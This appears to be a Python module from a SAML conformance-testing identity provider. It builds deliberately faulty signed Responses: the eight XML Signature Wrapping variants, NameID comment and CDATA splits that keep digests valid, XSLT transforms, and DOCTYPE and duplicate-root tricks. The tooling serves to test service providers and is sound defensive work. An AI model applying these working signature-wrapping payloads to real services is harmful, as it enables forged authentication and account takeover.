"""Faults in how it is signed (attacker mode): edits made after signing, and byte-level tricks.

The XSW permutations follow SECURITY.md A1-A8 (SAML Raider's eight): XSW1/2 start from a Response-signed
message (F0-R), XSW3-8 from an Assertion-signed one (F0-A); each keeps the genuine signature verifiable over
the genuine content while an EVIL copy sits where a careless reader looks.
"""

from __future__ import annotations

import base64
import copy
import re

from lxml import etree

from saml_core.constants import NS

from ._errors import IdPError
from ._fault import Draft
from ._fault import Fault
from ._fault import child
from ._fault import drop_signature
from ._fault import make_evil
from ._fault import name_id_of
from ._fault import signature_of
from ._resign import resign

EVIL_RESPONSE_ID = "_evil_response_ID"
EVIL_ASSERTION_ID = "_evil_assertion_ID"
_XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
_NAME_ID_BYTES = re.compile(rb"(<saml:NameID\b[^>]*>)([^<]*)(</saml:NameID>)")


def _first_signature(draft: Draft) -> etree._Element:
    """The Response's signature when it has one, else the Assertion's."""
    for node in draft.response:
        if node.tag == NS.ds("Signature"):
            return node
    return signature_of(draft.plain_assertion("signature"), "signature")


# ----------------------------------------------------------------------------------------- XSW 1-8


def _xsw1(draft: Draft) -> None:
    """A1: a signature-less clone of the Response inside the Signature; the root is EVIL with a new ID."""
    _xsw_response(draft, inside_signature=True)


def _xsw2(draft: Draft) -> None:
    """A2: as A1, the clone placed as the sibling right before the Signature."""
    _xsw_response(draft, inside_signature=False)


def _xsw_response(draft: Draft, *, inside_signature: bool) -> None:
    response = draft.response
    signature = signature_of(response, "xsw")
    clone = drop_signature(copy.deepcopy(response))
    if inside_signature:
        signature.append(clone)
    else:
        signature.addprevious(clone)
    make_evil(draft.plain_assertion("xsw"))
    response.set("ID", EVIL_RESPONSE_ID)


def _evil_clone(assertion: etree._Element) -> etree._Element:
    clone = drop_signature(copy.deepcopy(assertion))
    make_evil(clone)
    clone.set("ID", EVIL_ASSERTION_ID)
    return clone


def _xsw3(draft: Draft) -> None:
    """A3: an EVIL signature-less clone with a new ID before the genuine Assertion."""
    assertion = draft.plain_assertion("xsw3")
    assertion.addprevious(_evil_clone(assertion))


def _xsw4(draft: Draft) -> None:
    """A4: the EVIL clone is the Response's last child and the genuine Assertion moves inside it."""
    assertion = draft.plain_assertion("xsw4")
    evil = _evil_clone(assertion)
    draft.response.append(evil)
    evil.append(assertion)


def _xsw5(draft: Draft) -> None:
    """A5: the genuine Assertion EVIL'd in place (keeping its Signature, new ID); a pristine clone last."""
    assertion = draft.plain_assertion("xsw5")
    pristine = drop_signature(copy.deepcopy(assertion))
    make_evil(assertion)
    assertion.set("ID", EVIL_ASSERTION_ID)
    draft.response.append(pristine)


def _xsw6(draft: Draft) -> None:
    """A6: as A5, the pristine clone inside the original Signature."""
    assertion = draft.plain_assertion("xsw6")
    pristine = drop_signature(copy.deepcopy(assertion))
    make_evil(assertion)
    assertion.set("ID", EVIL_ASSERTION_ID)
    signature_of(assertion, "xsw6").append(pristine)


def _xsw7(draft: Draft) -> None:
    """A7: an EVIL clone inside a new samlp:Extensions before the Assertion; both keep the genuine ID."""
    assertion = draft.plain_assertion("xsw7")
    evil = drop_signature(copy.deepcopy(assertion))
    make_evil(evil)
    extensions = etree.Element(NS.samlp("Extensions"))
    extensions.append(evil)
    child(draft.response, NS.samlp("Status"), "xsw7").addprevious(extensions)


def _xsw8(draft: Draft) -> None:
    """A8: a pristine clone inside a new ds:Object in the Signature; the in-place Assertion is EVIL."""
    assertion = draft.plain_assertion("xsw8")
    pristine = drop_signature(copy.deepcopy(assertion))
    make_evil(assertion)
    holder = etree.SubElement(signature_of(assertion, "xsw8"), NS.ds("Object"))
    holder.append(pristine)


# -------------------------------------------------------------------------------- other signed edits


def _bad_digest(draft: Draft) -> None:
    """The NameID is changed after signing: every digest over the assertion breaks."""
    name_id_of(draft.plain_assertion("bad-digest"), "bad-digest").text = "admin@victim.example"


def _bad_signature_value(draft: Draft) -> None:
    node = child(_first_signature(draft), NS.ds("SignatureValue"), "bad-signature-value")
    raw = bytearray(base64.b64decode("".join((node.text or "").split())))
    raw[len(raw) // 2] ^= 0x01
    node.text = base64.b64encode(bytes(raw)).decode("ascii")


def _comment_in_name_id(draft: Draft) -> None:
    """B1: <!----> splits the NameID text; c14n drops comments, so every digest still matches."""
    name_id = name_id_of(draft.plain_assertion("comment-in-nameid"), "comment-in-nameid")
    text = name_id.text or ""
    cut = max(1, len(text) // 2)
    name_id.text = text[:cut]
    comment = etree.Comment("")
    comment.tail = text[cut:]
    name_id.append(comment)


def _empty_reference_uri(draft: Draft) -> None:
    """D1: the Response signature's Reference URI is "" (the whole document), re-signed so it verifies."""
    signature = signature_of(draft.response, "empty-reference-uri")
    reference = child(
        child(signature, NS.ds("SignedInfo"), "empty-reference-uri"),
        NS.ds("Reference"),
        "empty-reference-uri",
    )
    reference.set("URI", "")
    resign(draft.response, signature, draft.signer)


def _duplicate_assertion(draft: Draft) -> None:
    """A12a: an unsigned EVIL copy (ID + '-copy') appended after the genuine Assertion."""
    assertion = draft.plain_assertion("duplicate-assertion")
    clone = drop_signature(copy.deepcopy(assertion))
    make_evil(clone)
    clone.set("ID", assertion.get("ID", "") + "-copy")
    draft.response.append(clone)


def _signature_after_subject(draft: Draft) -> None:
    """C6: the Assertion's Signature moved after Subject (still verifiable: enveloped is position-free)."""
    assertion = draft.plain_assertion("signature-after-subject")
    signature = signature_of(assertion, "signature-after-subject")
    child(assertion, NS.saml("Subject"), "signature-after-subject").addnext(signature)


def _xslt_transform(draft: Draft) -> None:
    """D9c: an (identity) XSLT transform added to the Reference; a strict SP refuses it before running it."""
    transforms = child(
        child(
            child(_first_signature(draft), NS.ds("SignedInfo"), "xslt-transform"),
            NS.ds("Reference"),
            "xslt-transform",
        ),
        NS.ds("Transforms"),
        "xslt-transform",
    )
    transform = etree.SubElement(transforms, NS.ds("Transform"), Algorithm=_XSLT)
    xsl = "http://www.w3.org/1999/XSL/Transform"
    sheet = etree.SubElement(transform, f"{{{xsl}}}stylesheet", version="1.0", nsmap={"xsl": xsl})
    template = etree.SubElement(sheet, f"{{{xsl}}}template", match="@*|node()")
    etree.SubElement(template, f"{{{xsl}}}copy-of", select=".")


# ------------------------------------------------------------------------------------------ bytes


def _doctype(xml: bytes) -> bytes:
    return b"<!DOCTYPE samlp:Response>" + xml


def _cdata_in_name_id(xml: bytes) -> bytes:
    """B2: the end of the NameID text moves into a CDATA section (c14n turns it back into text)."""
    match = _NAME_ID_BYTES.search(xml)
    if match is None or len(match.group(2)) < 2:
        raise IdPError("the cdata-in-nameid fault needs a plaintext NameID of two or more characters")
    text = match.group(2)
    cut = len(text) // 2
    while b"&" in text[cut:] and cut < len(text):
        cut += 1
    if cut >= len(text):
        raise IdPError("the cdata-in-nameid fault cannot split this NameID")
    rest = text[cut:]
    return xml[: match.start(2)] + text[:cut] + b"<![CDATA[" + rest + b"]]>" + xml[match.end(2) :]


def _two_roots(xml: bytes) -> bytes:
    """A16: a second document element after the signed one."""
    return xml + xml


SIGNATURE_FAULTS: tuple[Fault, ...] = (
    Fault(
        name="bad-digest",
        stage="signed",
        edit_signed=_bad_digest,
        description="the NameID is changed after signing, so the digest no longer matches (R29)",
    ),
    Fault(
        name="bad-signature-value",
        stage="signed",
        edit_signed=_bad_signature_value,
        description="one bit of the SignatureValue flipped (signature_invalid, R29)",
    ),
    Fault(
        name="comment-in-nameid",
        stage="signed",
        edit_signed=_comment_in_name_id,
        description="<!----> inside the signed NameID; digests still match (B1, R8)",
    ),
    Fault(
        name="cdata-in-nameid",
        stage="bytes",
        edit_bytes=_cdata_in_name_id,
        description="half of the signed NameID inside a CDATA section; digests still match (B2, R8)",
    ),
    Fault(
        name="empty-reference-uri",
        stage="signed",
        sign="response",
        edit_signed=_empty_reference_uri,
        description='the Response is signed with Reference URI="" (whole document), validly (D1, R18)',
    ),
    Fault(
        name="xslt-transform",
        stage="signed",
        edit_signed=_xslt_transform,
        description="an XSLT transform (identity stylesheet) added to the Reference (D9c, R19)",
    ),
    Fault(
        name="signature-after-subject",
        stage="signed",
        sign="assertion",
        edit_signed=_signature_after_subject,
        description="the Assertion's Signature moved after Subject (C6, R14)",
    ),
    Fault(
        name="duplicate-assertion",
        stage="signed",
        sign="assertion",
        edit_signed=_duplicate_assertion,
        description="an unsigned EVIL copy of the Assertion appended after the signed one (A12, R13)",
    ),
    Fault(
        name="xsw1",
        stage="signed",
        sign="response",
        edit_signed=_xsw1,
        description="XSW1: an unsigned clone of the Response inside its Signature; the root is EVIL (A1)",
    ),
    Fault(
        name="xsw2",
        stage="signed",
        sign="response",
        edit_signed=_xsw2,
        description="XSW2: the Response clone right before the Signature; the root is EVIL (A2)",
    ),
    Fault(
        name="xsw3",
        stage="signed",
        sign="assertion",
        edit_signed=_xsw3,
        description="XSW3: an EVIL unsigned Assertion with a new ID before the signed one (A3)",
    ),
    Fault(
        name="xsw4",
        stage="signed",
        sign="assertion",
        edit_signed=_xsw4,
        description="XSW4: an EVIL Assertion last, wrapping the signed one (A4)",
    ),
    Fault(
        name="xsw5",
        stage="signed",
        sign="assertion",
        edit_signed=_xsw5,
        description="XSW5: the signed Assertion EVIL'd in place; a pristine unsigned copy appended (A5)",
    ),
    Fault(
        name="xsw6",
        stage="signed",
        sign="assertion",
        edit_signed=_xsw6,
        description="XSW6: as XSW5, the pristine copy inside the Signature (A6)",
    ),
    Fault(
        name="xsw7",
        stage="signed",
        sign="assertion",
        edit_signed=_xsw7,
        description="XSW7: an EVIL copy with the same ID inside samlp:Extensions (A7)",
    ),
    Fault(
        name="xsw8",
        stage="signed",
        sign="assertion",
        edit_signed=_xsw8,
        description="XSW8: a pristine copy in a ds:Object of the Signature; the Assertion is EVIL (A8)",
    ),
    Fault(
        name="doctype-present",
        stage="bytes",
        edit_bytes=_doctype,
        description="a <!DOCTYPE> before the document element (dtd_forbidden, R5)",
    ),
    Fault(
        name="two-roots",
        stage="bytes",
        edit_bytes=_two_roots,
        description="the signed Response followed by a second copy: trailing content (A16, R4)",
    ),
)
